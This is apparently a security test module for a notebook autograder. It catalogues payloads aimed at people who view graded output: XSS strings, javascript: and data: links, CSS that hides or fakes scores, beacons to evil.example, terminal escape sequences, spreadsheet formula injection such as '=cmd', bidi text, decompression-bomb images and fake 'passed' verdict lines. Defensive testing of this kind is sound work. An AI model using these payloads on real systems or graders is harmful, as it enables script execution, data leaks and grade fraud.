"""Attacks on those who look (lines 23 and 24 of docs/security.md): with a browser, a terminal, a spreadsheet."""

import base64
import json
from collections.abc import Callable
from dataclasses import replace
from textwrap import dedent

from attack import Attack

ACTS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    '<img src="https://evil.example/pixel.png?seen" width=1>',
    "<svg/onload=alert(1)>",
    "<svg><script href='data:,alert(1)'/></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=20>click</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><a xlink:href='javascript:alert(1)'>click</a></math>",
    "<iframe src='javascript:alert(1)' srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object><embed src='javascript:alert(1)'>",
    "<form action='/formgrader/api/grade/1' method=post><button formaction=javascript:alert(1)>x</button></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'><base href='https://evil.example/'>",
    "<link rel=stylesheet href='https://evil.example/x.css'><style>@import 'https://evil.example/x.css';</style>",
    "<details open ontoggle=alert(1)><summary>x</summary></details><video><source onerror=alert(1)></video>",
    "<a href='javascript:alert(1)'>a</a><a href='jav\tascript:alert(1)'>b</a><a href='&#106;avascript:alert(1)'>c</a>",
    "<input autofocus onfocus=alert(1)><body onload=alert(1)><marquee onstart=alert(1)>",
    "</textarea></pre></div></body></html><script>alert(1)</script>",
    "<!--><script>alert(1)</script>--><![CDATA[<script>alert(1)</script>]]><?xml x?><script>alert(1)</script>",
    "<template shadowrootmode=open><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
)
"""What would act in a page that let it through."""
LINKS = (
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](  \tjavascript:alert(1))",
    "[click](<javascript:alert(1)>)",
    "[click](java&#115;cript:alert(1))",
    "[click](javascript&colon;alert(1))",
    "[click](java\\script:alert(1))",
    "[click](\x01javascript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](vbscript:msgbox(1))",
    "[click](//evil.example/)",
    "[click](/formgrader/api/submission/1 'title')",
    "[click][one]\n\n[one]: javascript:alert(1)",
    "[two]\n\n[two]:\n  javascript:alert(1)",
    "[three][]\n\n[three]: <javascript:alert(1)> 'x'",
    "[four]\n\n> [four]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1)) ![x](https://evil.example/pixel.png) ![x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "[![x](https://evil.example/pixel.png)](javascript:alert(1))",
    "[a](https://e.example 'x\" onmouseover=alert(1) y=\"')",
    '[a](https://e.example/"onmouseover=alert(1)//)',
    "$\\href{javascript:alert(1)}{x}$ $$\\require{html}\\style{position:fixed}{x}$$ $\\unicode{<script>}$",
    "$x<script>alert(1)</script>$ \\\\(<img src=x onerror=alert(1)>\\\\) `<script>`alert(1)`</script>`",
    '```mermaid\ngraph TD; A[<img src=x onerror=alert(1)>] --> B; click A "javascript:alert(1)"\n```',
    '```html\n<script>alert(1)</script>\n```\n\n~~~ " onmouseover=alert(1)\nx\n~~~',
    '# <a onclick=alert(1)>x</a> "><script>alert(1)</script>\n\n| a |\n|---|\n| <script>alert(1)</script> |',
    "- [ ] <script>alert(1)</script>\n\n[^1]\n\n[^1]: <img src=x onerror=alert(1)>\n\n&lt;script&gt;alert(1)",
)
"""The same as markdown."""
STYLES = (
    "<style>.cell, .nbgrader { display: none !important } body::after { content: '100 of 100 points' }</style>",
    "<div style='position:fixed;inset:0;z-index:9999;background:#fff'>These checks: <b>40</b> of 40 points</div>",
    "<style>input[value^=a] { background: url(https://evil.example/a) }</style>",
    "<p style=\"background:url('https://evil.example/seen')\">x</p><p style='width:expression(alert(1))'>x",
    "<link rel=stylesheet href=data:text/css,*%7Bdisplay:none%7D><style>@font-face{src:url(//evil.example/f)}</style>",
)
"""Nothing runs, but the page lies, or tells that it was opened."""
ESCAPES = (
    "\x1b[2J\x1b[H",
    "\x1b]0;title\x07",
    "\x1b]52;c;ZXZpbA==\x07",
    "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\",
    "\x1bP$q\x1b\\\x1b_x\x1b\\\x1b^x\x1b\\",
    "\x1b[6n\x1b[c\x1b[?1049h\x1b[?25l\x1b[8m",
    "\x9b2J\x9d0;title\x9c\x90x\x9c",
    "\r[passed] Several factors.: 20 of 20 points\x08\x08\x7f\x0b\x0c",
    "\x00\x0e\x0f\x1b(0",
    "[bold green]20/20[/] [link=https://evil.example/]x[/link] [/] :smile:",
    "{0.__class__} %s %n $(id) `id`",
)
"""What a terminal obeys; rich's own markup with it."""
TURNS = "\u202e001/001\u202c \u2066x\u2069 \u200f\u061c \u2028\u2029"
"""What makes text read in another order than it stands."""
FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("//evil.example")',
    ";=1+1",
)
PICTURES = """
import base64, io, struct, zlib
def png(width, height, depth=1, colour=0, more=b""):
    def chunk(name, data):
        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))
    packer = zlib.compressobj(9)
    row = bytes(1 + (width * depth * {0: 1, 2: 3, 6: 4}[colour] + 7) // 8)
    data = b"".join(packer.compress(row) for _ in range(height)) + packer.flush()
    head = struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0)
    return b"\\x89PNG\\r\\n\\x1a\\n" + chunk(b"IHDR", head) + more + chunk(b"IDAT", data) + chunk(b"IEND", b"")
def show(content, kind="image/png", **more):
    display({kind: base64.b64encode(content).decode(), "text/plain": "a picture"}, raw=True, metadata=more)
"""


def answered(*texts: str) -> Callable[[dict], dict]:
    """A change of the honest notebook: the texts are its written answer, and an added cell of each kind."""

    def change(notebook: dict) -> dict:
        text = "\n\n".join(texts)
        for cell in notebook["cells"]:
            if cell["metadata"].get("nbgrader", {}).get("grade_id") == "opinion":
                cell["source"] = text
                cell["attachments"] = {"x.svg": {"image/svg+xml": text}, '"><script>': {"text/html": text}}
        more = {"metadata": {"tags": [text], "name": text, "editable": text}, "source": text}
        notebook["cells"] += [{**more, "cell_type": kind, "id": f"{kind}-1"} for kind in ("markdown", "raw")]
        notebook["cells"] += [
            {"cell_type": "markdown", "id": f"m{number}", "metadata": {}, "source": each}
            for number, each in enumerate(texts)
        ]
        return notebook

    return change


def _data(kind: str, content: bytes) -> str:
    return f"data:{kind};base64,{base64.b64encode(content).decode()}"


DRAWN = b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><script>alert(1)</script></svg>"
HUGE = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + (40_000).to_bytes(4, "big") * 2 + b"\x08\x02\0\0\0"
PASTED = (
    f"![x]({_data('image/svg+xml', DRAWN)}) ![x]({_data('image/png', DRAWN)}) ![x]({_data('image/png', HUGE)})",
    f"<img src='{_data('image/png', DRAWN)}' onerror=alert(1)><img src=\"{_data('text/html', ACTS[0].encode())}\">",
    "![x](attachment:missing.png) ![x](attachment:x.svg) ![x](attachment:picture-1.png) ![x](../../../etc/passwd)",
    "![x][ref] [x](attachment:x.svg)\n\n[ref]: attachment:picture-7.png",
    f'!["><script>alert(1)</script>]({_data("image/png", HUGE[:24])}) [![x](attachment:x.svg)](javascript:alert(1))',
    "<![x](attachment:picture-1.png)script>alert(1)</script> <img src=attachment:x.svg alt='\"onerror=alert(1)'>",
)
"""Pictures of a written answer that are none."""


def dressed(notebook: dict) -> dict:
    """Hostile names in all that is not text: ids, metadata, the kernel's name, an output that is there already."""
    act = '"><script>alert(1)</script><x y="'
    notebook["metadata"] |= {
        "kernelspec": {"name": act, "display_name": act, "language": act},
        "language_info": {"name": act, "pygments_lexer": act, "mimetype": act, "codemirror_mode": act},
        "title": act,
        "authors": [{"name": act}],
        "widgets": {"application/vnd.jupyter.widget-state+json": {"state": {"x": act}}},
    }
    output = {"output_type": "display_data", "data": {"text/html": act}, "metadata": {}}
    for cell in notebook["cells"]:
        cell["metadata"] |= {"tags": [act], "name": act, "collapsed": act, "jupyter": {"source_hidden": act}}
        if cell["cell_type"] == "code":
            cell |= {"outputs": [output], "execution_count": 7}
    notebook["cells"].append({"cell_type": "markdown", "id": "x", "metadata": {"slideshow": act}, "source": act})
    return notebook


def opening() -> list[Attack]:
    """Active content in outputs and answers (line 23)."""
    return [
        Attack(
            23,
            "scripts in outputs of every kind",
            first=f"""
                acts = {ACTS!r}
                for kind in ("text/html", "text/markdown", "text/latex", "image/svg+xml", "application/javascript",
                             "application/vnd.jupyter.widget-view+json", "application/vnd.vegalite.v5+json",
                             "application/vnd.plotly.v1+json", "application/pdf", "text/vnd.mermaid", "image/gif",
                             "application/geo+json", "application/x+json", "text/x-anything", "image/jpeg"):
                    for act in acts:
                        display({{kind: act, "text/plain": act}}, raw=True, metadata={{kind: {{"width": act,
                            "alt": act}}}})
            """,
        ),
        Attack(
            23,
            "scripts in results, streams and updates",
            first=f"""
                import sys
                acts = {ACTS!r}
                class Shown:
                    def _repr_html_(self): return "".join(acts)
                    def _repr_javascript_(self): return "alert(1)"
                    def _repr_svg_(self): return acts[5]
                    def _repr_markdown_(self): return acts[0]
                    def __repr__(self): return acts[0]
                handle = display("x", display_id=acts[0])
                handle.update(Shown())
                print(*acts)
                print(*acts, file=sys.stderr)
                Shown()
            """,
        ),
        Attack(
            23,
            "scripts in tracebacks, types and messages",
            first=f"""
                acts = {ACTS!r}
                class Odd(Exception): pass
                Odd.__name__ = Odd.__qualname__ = acts[0]
                raise Odd(*acts)
            """,
            scale=f"""
                acts = {ACTS!r}
                def scale(x, factor):
                    raise type(acts[3], (Exception,), {{}})("`".join(acts))
            """,
            smooth=f"def smooth(x): return type({ACTS[0]!r}, (), {{}})()",
            spell=f"def spell(n): return {ACTS[0] + ACTS[3]!r}",
            says={
                "scale": r"`scale` raised <img src=x onerror=alert\(1\)>: <script>",
                "smooth": "found an object of type <script>",
                "spell": "expected '[0-9]+', found '<script>",
            },
        ),
        Attack(
            23,
            "scripts in an exercise that does not run",
            spell=f"raise ValueError({ACTS[3]!r})",
            says={"spell": "the cell raised ValueError: <img src=x onerror"},
        ),
        Attack(23, "scripts, frames and handlers in answers", file=answered(*ACTS)),
        Attack(23, "javascript and data links in answers", file=answered(*LINKS)),
        Attack(23, "pictures in answers that are none", file=answered(*PASTED)),
        Attack(23, "styles that hide scores or paint others", file=answered(*STYLES)),
        Attack(
            23,
            "styles in outputs",
            first=f"""
                for style in {STYLES!r}:
                    display({{"text/html": style, "text/markdown": style, "image/svg+xml": style}}, raw=True)
                    print(style)
            """,
        ),
        Attack(23, "scripts in names, ids and metadata", file=dressed),
        Attack(
            23,
            "scripts in what its kernel says of itself",
            first=f"""
                kernel = get_ipython().kernel
                act = {ACTS[0]!r}
                for name in ("implementation", "banner", "language", "implementation_version"):
                    try:
                        setattr(type(kernel), name, act)
                    except Exception:
                        pass
                type(kernel).language_info = {{"name": act, "pygments_lexer": act, "mimetype": act, "version": act}}
                get_ipython().execution_count = act
            """,
        ),
        Attack(
            23,
            "an SVG and a page that call themselves PNG",
            first=f"""
                {{pictures}}
                for act in {ACTS!r}:
                    show(act.encode())
                    show(png(2, 2)[:16] + act.encode())
                    show(png(2, 2) + act.encode())
                    show(png(2, 2), **{{"image/png": {{"alt": '" onerror="alert(1)" x="' + act}}}})
                    display({{"image/png": act}}, raw=True)
                    display({{"image/png": base64.b64encode(png(2, 2)).decode() + '" onerror="alert(1)'}}, raw=True)
                    show(png(2, 2), **{{"image/png": {{"width": '1" onload="alert(1)', "height": act,
                        "unconfined": act}}}})
            """,
        ),
        Attack(
            23,
            "one picture that unfolds to gigabytes",
            first="""
                {pictures}
                show(png(20_000, 20_000))
                show(png(2, 2)[:16] + struct.pack(">II", 2**31 - 1, 2**31 - 1) + png(2, 2)[24:])
                show(png(4_097, 9_000))
            """,
        ),
        Attack(
            23,
            "a gallery of pictures that unfold to gigabytes",
            first="""
                {pictures}
                large = png(4096, 4096)
                for _ in range(60):
                    show(large)
            """,
        ),
        Attack(
            23,
            "50 MB of pictures",
            last="""
                import base64
                display({"image/png": base64.b64encode(b"\\x89PNG\\r\\n\\x1a\\n" + bytes(50 * 2**20)).decode()},
                    raw=True)
            """,
        ),
        Attack(
            23,
            "hundreds of outputs and endless lines",
            last="""
                for number in range(900):
                    display({"text/plain": "x"}, raw=True)
                print("x" * 60_000)
                print("\\u0301" * 20_000)
            """,
        ),
        Attack(
            23,
            "a file that is no notebook but a page",
            file=b"<html>" + "".join(ACTS).encode() + b"</html>",
            deserves=0,
            says={"scale": "What you handed in is a web page"},
        ),
        Attack(
            23,
            "scripts where a notebook's format is wrong",
            file=json.dumps({"cells": [{"cell_type": ACTS[3], ACTS[0]: ACTS[0]}], "nbformat": ACTS[0]}).encode(),
            deserves=0,
            says={"scale": "The notebook could not be read: expected "},
        ),
    ]


def telling() -> list[Attack]:
    """Escape sequences and formulas (line 24)."""
    return [
        Attack(
            24,
            "escape sequences in exceptions and answers",
            scale=f"""
                def scale(x, factor):
                    raise ValueError({"".join(ESCAPES)!r})
            """,
            smooth=f"def smooth(x): return type({ESCAPES[0] + ESCAPES[1] + ESCAPES[3]!r}, (), {{}})()",
            spell=f"def spell(n): return {'x'.join(ESCAPES)!r}",
            says={"scale": "`scale` raised ValueError: ", "smooth": "found an object of type ", "spell": "expected '"},
        ),
        Attack(
            24,
            "escape sequences in a cell that fails",
            spell=f"raise type('Odd' + {ESCAPES[1]!r}, (Exception,), {{}})({ESCAPES[0] + ESCAPES[9]!r})",
            says={"spell": "the cell raised Odd"},
        ),
        Attack(
            24,
            "escape sequences in outputs and answers",
            first=f"""
                import sys
                for each in {ESCAPES!r}:
                    print(each)
                    print(each, file=sys.stderr)
                    display({{"text/plain": each}}, raw=True)
                raise ValueError(*{ESCAPES!r})
            """,
        ),
        Attack(
            24,
            "escape sequences in colours that become markup",
            first="""
                print("\\x1b[31m<script>alert(1)</script>\\x1b[0m \\x1b[38;2;1;2;3m\\"><img src=x>\\x1b[m")
                print("\\x1b[38;5;<script>m \\x1b[38;2;'onclick=alert(1);0;0m \\x1b[<img src=x>m")
            """,
        ),
        Attack(
            24,
            "a verdict in a message's next line",
            spell='def spell(n): raise ValueError("\\n\\u2713 Numbers up to a million.  20/20\\n100 of 100 points")',
            says={"spell": "`spell` raised ValueError: "},
        ),
        Attack(
            24,
            "a verdict in a cell of its own that fails",
            last='raise ValueError("\\n\\u2713 Numbers up to a million.  20/20\\n100 of 100 points")',
        ),
        Attack(
            24,
            "text that turns its direction",
            scale=f"def scale(x, factor): raise ValueError({TURNS!r})",
            spell=f"def spell(n): return type({'x' + TURNS!r}, (), {{}})()",
            says={"scale": "`scale` raised ValueError: ", "spell": "found an object of type "},
        ),
        Attack(
            24,
            "formulas in messages and answers",
            scale=f"def scale(x, factor): raise ValueError({FORMULAS[1]!r})",
            spell=f"def spell(n): return {FORMULAS[7]!r}",
            first=f"print({FORMULAS!r})",
            says={"scale": "`scale` raised ValueError: =cmd", "spell": "expected '"},
        ),
        Attack(24, "escape sequences and formulas in written answers", file=answered(*ESCAPES, *FORMULAS, TURNS)),
    ]


def _drawn(attack: Attack) -> Attack:
    """The attack with the makers of pictures where it names them."""
    return replace(attack, first=dedent(attack.first).replace("{pictures}", PICTURES))


ATTACKS = [_drawn(attack) for attack in [*opening(), *telling()]]
